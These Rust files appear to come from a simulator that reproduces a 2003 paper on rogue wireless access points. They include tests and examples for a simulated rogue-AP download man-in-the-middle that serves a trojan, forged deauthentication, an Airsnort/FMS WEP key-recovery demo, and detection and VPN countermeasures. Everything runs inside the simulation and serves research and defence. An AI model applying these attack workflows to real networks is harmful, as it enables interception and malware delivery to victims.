        let needle = b"\x00NEEDLE-NEEDLE-17".to_vec();
        let clean: Vec<u8> = data.iter().copied().filter(|&b| b != 0).collect();
        let rules = vec![NetsedRule { search: needle, replace: b"x".to_vec() }];
        let chunk = bytes::Bytes::from(clean.clone());
        let before = chunk.as_ptr();
        let (out, hits) = apply_rules(&rules, chunk);
        prop_assert_eq!(hits, 0);
        prop_assert_eq!(&out[..], &clean[..]);
        prop_assert_eq!(out.as_ptr(), before, "no-match chunk must not be copied");
    }

    /// The number of netsed hits equals the number of non-overlapping
    /// occurrences.
    #[test]
    fn netsed_counts_occurrences(n in 0usize..20) {
        let mut data = Vec::new();
        for _ in 0..n {
            data.extend_from_slice(b"PATTERN");
            data.push(b'-');
        }
        let rules = vec![NetsedRule::new("PATTERN", "replaced")];
        let (_, hits) = apply_rules(&rules, bytes::Bytes::from(data));
        prop_assert_eq!(hits as usize, n);
    }
}

/// A deterministic (non-proptest) TCP stress: random payload sizes pushed
/// through two hosts over a perfect wire; everything must arrive intact
/// and in order.
#[test]
fn tcp_bulk_random_sizes() {
    use rogue_dot11::MacAddr as Mac;
    use rogue_netstack::Host;
    use rogue_sim::{Seed, SimDuration, SimRng, SimTime};

    let mut rng = SimRng::new(Seed(99));
    for trial in 0..5 {
        let size = 1 + rng.below(120_000) as usize;
        let mut a = Host::new("a", SimRng::new(Seed(trial)));
        let mut b = Host::new("b", SimRng::new(Seed(trial + 100)));
        let ip_a = Ipv4Addr::new(10, 0, 0, 1);
        let ip_b = Ipv4Addr::new(10, 0, 0, 2);
        a.add_iface(Mac::local(1), ip_a, 24);
        b.add_iface(Mac::local(2), ip_b, 24);
        let lh = b.tcp_listen(80);
        let ch = a.tcp_connect(SimTime::ZERO, ip_b, 80);
        let data: Vec<u8> = (0..size).map(|i| (i * 31 % 251) as u8).collect();

        let mut sent = 0usize;
        let mut got: Vec<u8> = Vec::new();
        let mut sh = None;
        let mut now = SimTime::ZERO;
        for _ in 0..40_000 {
            now += SimDuration::from_millis(1);
            a.poll(now);
            b.poll(now);
            if sent < data.len() {
                sent += a.tcp_send(now, ch, &data[sent..]);
                if sent == data.len() {
                    a.tcp_close(now, ch);
                }
            }
            if sh.is_none() {
                sh = b.tcp_accept(lh);
            }
            if let Some(h) = sh {
                got.extend(b.tcp_recv(h, 64 * 1024));
            }
            let fa = a.take_frames();
            let fb = b.take_frames();
            if got.len() == data.len() {
                break;
            }
            for (_, f) in fa {
                b.on_link_rx(now, 0, &f);
            }
            for (_, f) in fb {
                a.on_link_rx(now, 0, &f);
            }
        }
        assert_eq!(got.len(), data.len(), "trial {trial} size {size}");
        assert_eq!(got, data, "trial {trial} corrupted");
    }
}

/// TCP through a world-composed impaired segment: loss AND reordering
/// jitter. The transfer must still arrive intact.
#[test]
fn tcp_survives_loss_and_reordering() {
    use rogue_core::world::World;
    use rogue_dot11::MacAddr as Mac;
    use rogue_phy::MediumParams;
    use rogue_services::apps::{DownloadClient, HttpServerApp};
    use rogue_services::site::{download_portal, make_binary};
    use rogue_sim::{Seed, SimDuration, SimRng, SimTime};

    let seed = Seed(4242);
    let mut world = World::new(seed, MediumParams::default());
    // 3% loss, 2 ms jitter on 1 ms latency: heavy reordering.
    let wire = world.add_switch_impaired(
        SimDuration::from_millis(1),
        0.03,
        SimDuration::from_millis(2),
    );
    let a = world.add_node("client");
    world.add_wired_iface(a, wire, Mac::local(1), Ipv4Addr::new(10, 0, 0, 1), 24);
    let b = world.add_node("server");
    world.add_wired_iface(b, wire, Mac::local(2), Ipv4Addr::new(10, 0, 0, 2), 24);

    let mut rng = SimRng::new(seed);
    let portal = download_portal(make_binary(&mut rng, 100 * 1024));
    world.add_app(b, Box::new(HttpServerApp::new(80, portal.site.clone())));
    let dl = world.add_app(
        a,
        Box::new(DownloadClient::new(
            Ipv4Addr::new(10, 0, 0, 2),
            "/download.html",
            SimTime::from_millis(10),
            SimDuration::from_secs(120),
        )),
    );
    world.run_until(SimTime::from_secs(130));
    let o = world
        .app::<DownloadClient>(a, dl)
        .outcome
        .clone()
        .expect("finished");
    assert!(o.error.is_none(), "error: {:?}", o.error);
    assert!(o.verified, "bytes must survive loss + reordering intact");
    assert_eq!(o.file_len, 100 * 1024);
    assert_eq!(o.file_bytes.as_ref().unwrap(), &portal.file);
}
