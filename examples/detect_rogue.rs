//! §2.3: detecting the rogue — site audit, sequence-control monitoring,
//! and the wired monitor's telling silence.
//!
//! ```text
//! cargo run --release --example detect_rogue
//! ```

use rogue_core::experiments::e1_association::capture_with_deauth;
use rogue_core::experiments::e6_detection::{detection_vs_dwell, run_detection_once};
use rogue_core::report::{pct, Table};
use rogue_sim::{Seed, SimDuration, SimTime};

fn main() {
    println!("== One detection run (rogue appears at t = 2 s) ==\n");
    let o = run_detection_once(
        SimDuration::from_millis(250),
        SimTime::from_secs(15),
        Seed(8),
    );
    println!("beacons captured by the sweep  : {}", o.beacons_captured);
    println!(
        "site audit (dup BSSID) latency : {}",
        o.audit_latency_secs
            .map(|s| format!("{s:.2} s"))
            .unwrap_or_else(|| "not detected".into())
    );
    println!(
        "sequence monitor latency       : {}",
        o.seqmon_latency_secs
            .map(|s| format!("{s:.2} s"))
            .unwrap_or_else(|| "not detected".into())
    );
    println!(
        "wired monitor alarmed          : {} (the rogue never touches the wired LAN)\n",
        o.wired_alarmed
    );

    println!("== Detection vs sweep dwell ==\n");
    let rows = detection_vs_dwell(&[100, 250, 500, 1000], 3, Seed(9));
    let mut t = Table::new(&[
        "dwell ms",
        "audit detect",
        "audit latency s",
        "seqmon detect",
        "wired alarm",
    ]);
    for r in &rows {
        t.row(&[
            r.dwell_ms.to_string(),
            pct(r.audit_detection_rate),
            format!("{:.2}", r.mean_audit_latency_secs),
            pct(r.seqmon_detection_rate),
            pct(r.wired_alarm_rate),
        ]);
    }
    println!("{}", t.render());

    println!("\n== And the attack the detectors are racing: forced deauth roaming ==\n");
    let rows = capture_with_deauth(3, Seed(10));
    let mut t = Table::new(&["forged deauth", "capture rate", "mean time to capture s"]);
    for r in &rows {
        t.row(&[
            r.deauth.to_string(),
            pct(r.capture_rate),
            format!("{:.2}", r.mean_capture_after_start_secs),
        ]);
    }
    println!("{}", t.render());
    println!("A late-arriving rogue captures nobody until it forges deauthentication —");
    println!("then the sticky association breaks and the stronger signal wins in seconds.");
}
