//! Figure 2 in detail: the software-download MITM, with the gateway's
//! internals exposed, plus the §4.2 boundary-miss limitation.
//!
//! ```text
//! cargo run --release --example download_mitm
//! ```

use rogue_core::experiments::e2_download::{
    boundary_miss_sweep, run_download_mitm, DownloadMitmConfig,
};
use rogue_core::report::{pct, Table};
use rogue_sim::Seed;

fn main() {
    println!("== Figure 2: Software Download MITM Detail ==\n");

    // One run with the paper's exact configuration, and the healthy
    // baseline next to it.
    let attack = run_download_mitm(&DownloadMitmConfig::paper(), Seed(42));
    let baseline = run_download_mitm(&DownloadMitmConfig::baseline(), Seed(42));

    let mut t = Table::new(&["", "healthy network", "through rogue gateway"]);
    let row = |name: &str, a: String, b: String| [name.to_string(), a, b];
    t.row(&row(
        "on rogue AP",
        baseline.victim_on_rogue.to_string(),
        attack.victim_on_rogue.to_string(),
    ));
    t.row(&row(
        "link on page",
        baseline.link_seen.clone().unwrap_or_default(),
        attack.link_seen.clone().unwrap_or_default(),
    ));
    t.row(&row(
        "file server",
        baseline
            .file_server
            .map(|i| i.to_string())
            .unwrap_or_default(),
        attack
            .file_server
            .map(|i| i.to_string())
            .unwrap_or_default(),
    ));
    t.row(&row(
        "got trojan",
        baseline.victim_got_trojan.to_string(),
        attack.victim_got_trojan.to_string(),
    ));
    t.row(&row(
        "md5 check passed",
        baseline.md5_check_passed.to_string(),
        attack.md5_check_passed.to_string(),
    ));
    t.row(&row(
        "netsed hits",
        baseline.netsed_replacements.to_string(),
        attack.netsed_replacements.to_string(),
    ));
    println!("{}", t.render());

    // §4.2: "netsed will not match strings that cross packet boundaries."
    println!("\n== §4.2 limitation: rewrite success vs server segment size ==\n");
    let points = boundary_miss_sweep(&[64, 96, 128, 256, 512, 1400], 12, Seed(7));
    let mut t = Table::new(&[
        "server MSS",
        "reps",
        "link rewritten",
        "fully deceived",
        "any rule missed",
    ]);
    for p in &points {
        t.row(&[
            p.server_mss.to_string(),
            p.reps.to_string(),
            pct(p.link_rewrite_rate),
            pct(p.full_deception_rate),
            pct(p.any_miss_rate),
        ]);
    }
    println!("{}", t.render());
    println!("Small segments split the target strings across TCP boundaries, and the");
    println!("per-chunk editor misses them — the paper's own caveat, quantified.");
}
