//! Run a declarative scenario file.
//!
//! ```text
//! cargo run --release -p rogue-scenario --example scenario_run -- \
//!     scenarios/campus_waypoint_500.toml \
//!     --override duration=10s --override population.0.count=50
//!
//! # smoke mode: load, downscale, and run every .toml in a directory
//! cargo run --release -p rogue-scenario --example scenario_run -- \
//!     --smoke scenarios
//! ```
//!
//! `--override key.path=value` patches the parsed file before
//! validation; numeric path segments index `[[array]]` tables. Values
//! parse as TOML when they can (`42`, `true`, `[1, 6]`) and fall back to
//! bare strings (`30s`) so durations need no inner quotes.
//!
//! `--shards N` runs every world the scenario builds under N event-loop
//! shards. Sharding is bit-identical by construction (DESIGN.md §15),
//! so the report must not change; in `--smoke` mode that is enforced —
//! each scenario is rendered serially AND under the requested shard
//! count (default 2) and the two reports are asserted byte-identical.

use std::process::ExitCode;

use rogue_scenario::{load_source, run_scenario};

fn usage() -> ExitCode {
    eprintln!(
        "usage: scenario_run <file.toml> [--shards N] [--override key.path=value]...\n\
         \x20      scenario_run --smoke <dir> [--shards N]"
    );
    ExitCode::FAILURE
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let mut file: Option<String> = None;
    let mut smoke_dir: Option<String> = None;
    let mut overrides: Vec<String> = Vec::new();
    let mut shards: Option<usize> = None;

    let mut it = args.into_iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--override" => match it.next() {
                Some(o) => overrides.push(o),
                None => return usage(),
            },
            "--smoke" => match it.next() {
                Some(d) => smoke_dir = Some(d),
                None => return usage(),
            },
            "--shards" => match it.next().and_then(|n| n.parse().ok()) {
                Some(n) if n >= 1 => shards = Some(n),
                _ => return usage(),
            },
            "--help" | "-h" => return usage(),
            _ if file.is_none() => file = Some(arg),
            _ => return usage(),
        }
    }

    let ok = match (file, smoke_dir) {
        (Some(path), None) => run_one(&path, &overrides, false, shards.unwrap_or(1)),
        (None, Some(dir)) => smoke(&dir, &overrides, shards.unwrap_or(2)),
        _ => return usage(),
    };
    if ok {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}

/// Load, run, print. In smoke mode the scenario is downscaled first so a
/// CI leg can cover every checked-in file in seconds, and — when a shard
/// count other than 1 is in play — the report is rendered both serially
/// and sharded and the two are asserted byte-identical.
fn run_one(path: &str, overrides: &[String], smoke: bool, shards: usize) -> bool {
    let src = match std::fs::read_to_string(path) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("{path}: {e}");
            return false;
        }
    };
    let sc = match load_source(&src, overrides) {
        Ok(sc) => sc,
        Err(e) => {
            eprintln!("{path}: {e}");
            return false;
        }
    };
    let sc = if smoke { downscale(sc) } else { sc };
    let render = |n: usize| rogue_core::world::with_default_shards(n, || run_scenario(&sc));
    let report = match render(shards) {
        Ok(report) => report,
        Err(e) => {
            eprintln!("{path}: {e}");
            return false;
        }
    };
    if smoke && shards > 1 {
        // The determinism gate: a sharded world must render the exact
        // bytes the serial world does, or sharding has a bug.
        match render(1) {
            Ok(serial) if serial == report => {
                println!("[shards {shards} == serial: byte-identical]");
            }
            Ok(_) => {
                eprintln!("{path}: report under {shards} shards diverged from serial");
                return false;
            }
            Err(e) => {
                eprintln!("{path}: {e}");
                return false;
            }
        }
    }
    println!("== {path} ==");
    println!("{report}");
    true
}

/// Shrink a scenario to smoke-test size without touching its structure:
/// every section still compiles and runs, just briefly.
fn downscale(mut sc: rogue_scenario::Scenario) -> rogue_scenario::Scenario {
    use rogue_sim::{SimDuration, SimTime};
    sc.report.reps = 1;
    sc.duration = sc.duration.min(SimDuration::from_secs(5));
    let horizon = SimTime::ZERO + sc.duration;
    for p in &mut sc.populations {
        p.count = p.count.min(20);
    }
    // Keep timed rogues inside the shortened horizon so activation still
    // happens (a rogue that never powers on tests nothing).
    for r in &mut sc.rogues {
        if r.start >= horizon {
            r.start = SimTime::ZERO + SimDuration::from_nanos(sc.duration.0 / 2);
        }
    }
    if let Some(e1) = &mut sc.e1 {
        e1.powers_dbm.truncate(2);
    }
    if let Some(e10) = &mut sc.e10 {
        e10.scenarios.truncate(2);
    }
    if let Some(ev) = &mut sc.e10_evasion {
        ev.variants.truncate(2);
    }
    sc
}

/// Collect every `.toml` under `dir`, recursively (the tree groups
/// related scenarios in subdirectories, e.g. `scenarios/evasion/`).
fn collect_tomls(dir: &str, paths: &mut Vec<String>) -> std::io::Result<()> {
    for entry in std::fs::read_dir(dir)? {
        let path = entry?.path();
        if path.is_dir() {
            collect_tomls(&path.display().to_string(), paths)?;
        } else if path.display().to_string().ends_with(".toml") {
            paths.push(path.display().to_string());
        }
    }
    Ok(())
}

/// Run every `.toml` under `dir`, downscaled and cross-checked against
/// `shards` event-loop shards; fail if any file fails or diverges.
fn smoke(dir: &str, overrides: &[String], shards: usize) -> bool {
    let mut paths = Vec::new();
    if let Err(e) = collect_tomls(dir, &mut paths) {
        eprintln!("{dir}: {e}");
        return false;
    }
    paths.sort();
    if paths.is_empty() {
        eprintln!("{dir}: no .toml files found");
        return false;
    }
    for p in &paths {
        if !run_one(p, overrides, true, shards) {
            return false;
        }
    }
    println!(
        "smoke: {} scenario(s) ran clean under {shards} shard(s)",
        paths.len()
    );
    true
}
