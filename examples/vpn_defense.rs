//! Figure 3 + the §5.3 transport comparison: the VPN-everything defence.
//!
//! ```text
//! cargo run --release --example vpn_defense
//! ```

use rogue_core::experiments::e3_vpn::{rogue_endpoint_refused, vpn_defense_comparison};
use rogue_core::experiments::e5_tcp_over_tcp::{tunnel_comparison, InnerFlow};
use rogue_core::report::{pct, Table};
use rogue_sim::Seed;
use rogue_vpn::Transport;

fn main() {
    println!("== Figure 3: VPN proxy configuration in a compromised wireless network ==\n");
    let rows = vpn_defense_comparison(3, Seed(5));
    let mut t = Table::new(&[
        "mode",
        "on rogue AP",
        "completed",
        "trojaned",
        "genuine+verified",
        "mean download s",
    ]);
    for r in &rows {
        t.row(&[
            r.mode.label().to_string(),
            pct(r.on_rogue_rate),
            pct(r.completed_rate),
            pct(r.trojan_rate),
            pct(r.genuine_verified_rate),
            format!("{:.2}", r.mean_download_secs),
        ]);
    }
    println!("{}", t.render());
    println!("The tunnel does not keep the victim off the rogue AP — it makes the rogue");
    println!("irrelevant: no cleartext ever crosses the compromised segment.\n");

    println!("== §5.2 requirement 2: pre-established authentication ==\n");
    let (refused, auth_failures) = rogue_endpoint_refused(Seed(6));
    println!(
        "rogue endpoint without the PSK: client refused = {refused}, bad authenticators seen = {auth_failures}\n"
    );

    println!("== §5.3: the PPP-over-SSH (TCP-over-TCP) penalty, UDP flow under loss ==\n");
    let points = tunnel_comparison(InnerFlow::UdpCbr, &[0.0, 0.02, 0.05, 0.10], 3, Seed(9));
    let mut t = Table::new(&[
        "encap",
        "loss",
        "delivery",
        "mean latency ms",
        "max latency ms",
    ]);
    for p in &points {
        t.row(&[
            match p.transport {
                Transport::Udp => "udp".into(),
                Transport::Tcp => "tcp (ppp/ssh)".into(),
            },
            pct(p.loss),
            pct(p.udp_delivery),
            format!("{:.1}", p.udp_mean_latency_ms),
            format!("{:.1}", p.udp_max_latency_ms),
        ]);
    }
    println!("{}", t.render());
    println!("TCP encapsulation \"helpfully\" retransmits lost UDP — delivery rises but");
    println!("latency blows up: the unnecessary-retransmission drawback the paper notes.");
}
