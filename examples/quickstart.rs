//! Quickstart: run the paper's proof-of-concept attack end to end.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```
//!
//! Builds the Figure 1/2 corporate scenario — valid AP, two-NIC MITM
//! gateway with a cloned rogue AP, netfilter DNAT and netsed — lets the
//! victim run the §4.1 download workflow, and reports what it got.

use rogue_core::experiments::e2_download::{run_download_mitm, DownloadMitmConfig};
use rogue_sim::Seed;

fn main() {
    println!("== Countering Rogues in Wireless Networks (ICPP 2003) ==");
    println!("== Section 4 proof of concept: the software-download MITM ==\n");

    let cfg = DownloadMitmConfig::paper();
    println!("network : SSID \"CORP\", WEP key from passphrase \"SECRET\", MAC filtering ON");
    println!("attack  : rogue AP on channel 6 cloning SSID/BSSID/WEP; parprouted bridge;");
    println!("          iptables DNAT Target:80 -> gateway:10101; netsed rewrites\n");

    let r = run_download_mitm(&cfg, Seed(2003));

    println!("victim associated to the rogue AP : {}", r.victim_on_rogue);
    println!("download completed                : {}", r.completed);
    println!(
        "link the victim saw                : {}",
        r.link_seen.as_deref().unwrap_or("-")
    );
    println!(
        "file fetched from                  : {}",
        r.file_server
            .map(|ip| ip.to_string())
            .unwrap_or_else(|| "-".into())
    );
    println!(
        "victim received the trojan         : {}",
        r.victim_got_trojan
    );
    println!(
        "victim's MD5 verification passed   : {}",
        r.md5_check_passed
    );
    println!(
        "netsed replacements on the gateway : {}",
        r.netsed_replacements
    );
    println!(
        "download duration                  : {:.2} s",
        r.download_secs
    );

    if r.victim_got_trojan && r.md5_check_passed {
        println!(
            "\n→ The victim installed the attacker's binary and was *reassured* by the\n\
             checksum — \"even casual web browsing over a wireless link is susceptible\n\
             to tampering of considerable consequence\" (§5). Run the vpn_defense\n\
             example to see the paper's countermeasure."
        );
    }
}
