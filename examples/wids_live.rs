//! The streaming WIDS watching the paper's attack live.
//!
//! Three fixed monitor radios (channels 1 / 6 / 11) and a span-port tap
//! on the corporate switch feed the `rogue-wids` pipeline while each
//! scripted scenario plays out; the correlator's incidents are scored
//! against ground truth (E10).
//!
//! ```text
//! cargo run --release --example wids_live
//! ```

use rogue_core::experiments::e10_wids::{run_wids_once, wids_table, WidsScenario};
use rogue_core::report::Table;
use rogue_sim::Seed;

fn main() {
    for scenario in WidsScenario::all() {
        let o = run_wids_once(scenario, Seed(0xE10));
        println!("== {} ==\n", scenario.name());
        println!(
            "events seen: {}   ring drops: {}   incidents opened: {}",
            o.events, o.ring_dropped, o.incidents
        );
        if o.incident_log.is_empty() {
            println!("(no incidents — every frame looked legitimate)");
        } else {
            let mut t = Table::new(&["incident", "subject", "opened at", "score"]);
            for (category, subject, opened_at, score) in &o.incident_log {
                t.row(&[
                    format!("{category:?}"),
                    subject.to_string(),
                    format!("{:.3} s", opened_at.as_secs_f64()),
                    format!("{score:.2}"),
                ]);
            }
            println!("{}", t.render());
        }
        println!(
            "precision {:.2}   recall {:.2}   median latency {}\n",
            o.eval.precision(),
            o.eval.recall(),
            if o.eval.latencies_secs.is_empty() {
                "—".to_string()
            } else {
                format!("{:.2} s", o.eval.median_latency_secs())
            }
        );
    }

    println!("== E10 score card (3 reps per scenario, Markdown) ==\n");
    let rows = wids_table(3, Seed(0xE10));
    let mut t = Table::new(&[
        "scenario",
        "reps",
        "TP",
        "FP",
        "FN",
        "precision",
        "recall",
        "median latency s",
    ]);
    for r in &rows {
        t.row(&[
            r.scenario.to_string(),
            r.reps.to_string(),
            r.eval.true_positives.to_string(),
            r.eval.false_positives.to_string(),
            r.eval.false_negatives.to_string(),
            format!("{:.2}", r.eval.precision()),
            format!("{:.2}", r.eval.recall()),
            if r.eval.latencies_secs.is_empty() {
                "—".to_string()
            } else {
                format!("{:.2}", r.eval.median_latency_secs())
            },
        ]);
    }
    println!("{}", t.to_markdown());
    println!("\nThe wired tap never fires in the rogue-ap scenario: the client-side");
    println!("rogue leaves no wired footprint (§1) — only the radio sensors see it.");
}
