//! A narrated timeline of the Section 4 attack — every MAC-layer and
//! application milestone the simulation records, in order.
//!
//! ```text
//! cargo run --release --example attack_timeline
//! ```

use rogue_core::scenario::{build_corp, CorpScenarioCfg, RogueCfg};
use rogue_dot11::output::MacEvent;
use rogue_services::apps::{AppEvent, DownloadClient};
use rogue_sim::{Seed, SimDuration, SimTime};

fn main() {
    // The rogue (with targeted deauth) arrives while the victim is
    // already working — the most narratively complete variant.
    let mut cfg = CorpScenarioCfg::paper_attack();
    cfg.rogue = Some(RogueCfg {
        start_at: SimTime::from_secs(3),
        deauth_victim: true,
        ..RogueCfg::default()
    });
    let mut sc = build_corp(&cfg, Seed(1973));
    sc.world.add_app(
        sc.victim,
        Box::new(DownloadClient::new(
            rogue_core::scenario::addrs::TARGET,
            "/download.html",
            SimTime::from_secs(7),
            SimDuration::from_secs(20),
        )),
    );
    sc.world.run_until(SimTime::from_secs(30));

    println!("== Attack timeline (victim node = {:?}) ==\n", sc.victim);
    println!("t=0.000s  world starts: valid AP beaconing on ch 1; victim scanning");
    println!("t=3.000s  ROGUE comes on air: cloned SSID/BSSID/WEP on ch 6 + deauth flood\n");

    let mut lines: Vec<(SimTime, String)> = Vec::new();
    for (t, node, e) in &sc.world.mac_events {
        let who = sc.world.node_name(*node);
        let line = match e {
            MacEvent::Associated {
                bssid,
                channel,
                rssi_dbm,
            } => format!("{who}: ASSOCIATED to {bssid} on ch {channel} ({rssi_dbm:.0} dBm)"),
            MacEvent::Disassociated { bssid, forced } => format!(
                "{who}: lost association to {bssid}{}",
                if *forced { "  ← FORGED DEAUTH" } else { "" }
            ),
            MacEvent::ClientAssociated { client } => {
                format!("{who}: AP accepted client {client}")
            }
            MacEvent::ClientRejected { client, status } => {
                format!("{who}: AP rejected {client} (status {status})")
            }
            MacEvent::TxFailed { dst } => format!("{who}: gave up transmitting to {dst}"),
            MacEvent::WepDecryptFailed { from } => {
                format!("{who}: WEP decrypt failure from {from}")
            }
        };
        lines.push((*t, line));
    }
    for (t, node, e) in &sc.world.app_events {
        let who = sc.world.node_name(*node);
        let line = match e {
            AppEvent::DownloadFinished(o) => format!(
                "{who}: DOWNLOAD DONE — link {:?}, from {:?}, md5 {} ({} bytes)",
                o.link.as_deref().unwrap_or("-"),
                o.file_server,
                if o.verified {
                    "VERIFIED ✓ (fooled)"
                } else {
                    "mismatch"
                },
                o.file_len,
            ),
            AppEvent::PageFetched { tampered, .. } => {
                format!("{who}: page fetched (tampered = {tampered})")
            }
            AppEvent::PageFailed => format!("{who}: page fetch failed"),
        };
        lines.push((*t, line));
    }
    lines.sort_by_key(|(t, _)| *t);
    for (t, line) in lines {
        println!("t={:<8}  {line}", format!("{:.3}s", t.as_secs_f64()));
    }

    let gw = sc.gateway.as_ref().expect("rogue deployed");
    println!(
        "\nnetsed on the gateway performed {} replacements.",
        sc.world
            .app::<rogue_services::netsed::Netsed>(gw.node, gw.netsed_app)
            .replacements
    );
}
