//! The §4 premise: "retrieved the WEP key via Airsnort".
//!
//! ```text
//! cargo run --release --example wep_crack
//! ```
//!
//! Runs the real FMS attack against the real RC4/WEP implementation:
//! first a live demonstration (sealed frames → sniffer → vote tables →
//! recovered key → verified against a captured frame), then the
//! success-probability curve vs. captured traffic.

use rogue_attack::airsnort::{Airsnort, CrackOutcome};
use rogue_core::experiments::e4_wep::crack_curve;
use rogue_core::report::{pct, Table};
use rogue_crypto::fms::targeted_weak_ivs;
use rogue_crypto::wep::{seal, WepKey};
use rogue_dot11::frame::{encode_llc, Frame, FrameBody};
use rogue_dot11::monitor::Sniffer;
use rogue_dot11::MacAddr;
use rogue_sim::{Seed, SimTime};

fn main() {
    println!("== Airsnort / FMS demonstration ==\n");
    let key = WepKey::from_passphrase_40("SECRET");
    println!("network WEP-40 key bytes (secret!): {:02x?}", key.bytes());

    // Simulated capture: WEP data frames with weak IVs, as a sequential
    // card interleaved over ~16M frames would emit them.
    let mut sniffer = Sniffer::new();
    for (i, iv) in targeted_weak_ivs(5, 220).into_iter().enumerate() {
        let body = seal(&key, iv, 0, &encode_llc(0x0800, b"ordinary traffic"));
        let mut f = Frame::new(
            MacAddr([0xAA, 0xBB, 0xCC, 0xDD, 0x00, 0x01]),
            MacAddr::local(50),
            MacAddr::local(99),
            FrameBody::Data {
                payload: body.into(),
            },
        );
        f.to_ds = true;
        f.protected = true;
        f.seq = (i % 4096) as u16;
        sniffer.on_receive(SimTime::from_micros(i as u64 * 500), &f.encode(), -55.0, 1);
    }
    println!("captured {} protected frames (weak IVs)", sniffer.len());

    let mut snort = Airsnort::new();
    snort.absorb_sniffer(&sniffer);
    match snort.crack(5) {
        CrackOutcome::Recovered(k) => {
            println!("recovered key bytes               : {:02x?}", k.bytes());
            println!(
                "matches the network key           : {}",
                k.bytes() == key.bytes()
            );
            println!("verified by decrypting a capture  : yes (ICV check)\n");
        }
        other => println!("crack failed: {other:?}\n"),
    }

    println!("== Success probability vs captured traffic ==\n");
    let weak_counts = [10usize, 20, 40, 60, 100, 160, 240];
    let mut t = Table::new(&[
        "key",
        "weak IVs/pos",
        "≈ frames (sequential card)",
        "success",
    ]);
    for &key_len in &[5usize, 13] {
        for p in crack_curve(key_len, &weak_counts, 10, Seed(4)) {
            t.row(&[
                format!("WEP-{}", key_len * 8),
                p.weak_ivs_per_position.to_string(),
                format!("{:.1}M", p.equivalent_frames as f64 / 1e6),
                pct(p.success_rate),
            ]);
        }
    }
    println!("{}", t.render());
    println!("The millions-of-frames scale matches period Airsnort reports; WEP-104 needs");
    println!("no more weak IVs per byte — just 13 bytes' worth of them (§2.1's \"legendary\"");
    println!("weakness is in the key schedule, not the key length).");
}
